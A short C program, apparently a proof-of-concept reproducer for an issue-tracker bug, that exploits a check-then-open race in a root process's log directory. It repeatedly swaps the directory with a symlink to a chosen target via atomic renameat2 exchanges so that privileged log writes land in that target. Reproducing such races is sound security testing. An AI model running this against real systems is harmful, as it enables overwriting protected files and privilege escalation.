/*
 * The attacker of issue 19's log-directory race, run as another user who
 * may write PARENT: for SECONDS, swaps PARENT/logs (root's log directory,
 * once it exists) with a symlink to TARGET and back, each swap atomic
 * (renameat2 RENAME_EXCHANGE), as fast as it can.  A shim that checks the
 * directory and then opens its log by path writes into TARGET.
 * Usage: dir_swap PARENT TARGET SECONDS
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	char logs[4096], evil[4096];
	snprintf(logs, sizeof(logs), "%s/logs", argv[1]);
	snprintf(evil, sizeof(evil), "%s/evil", argv[1]);
	if (symlink(argv[2], evil))
		return 3;
	time_t end = time(NULL) + atoi(argv[3]);
	long swaps = 0;
	while (time(NULL) < end) {
		if (renameat2(AT_FDCWD, logs, AT_FDCWD, evil, RENAME_EXCHANGE)) {
			usleep(1000); /* not there yet */
			continue;
		}
		swaps++;
		for (volatile int i = 0; i < 2000; i++)
			;
		renameat2(AT_FDCWD, logs, AT_FDCWD, evil, RENAME_EXCHANGE);
		for (volatile int i = 0; i < 2000; i++)
			;
	}
	printf("%ld swaps\n", swaps);
	return 0;
}
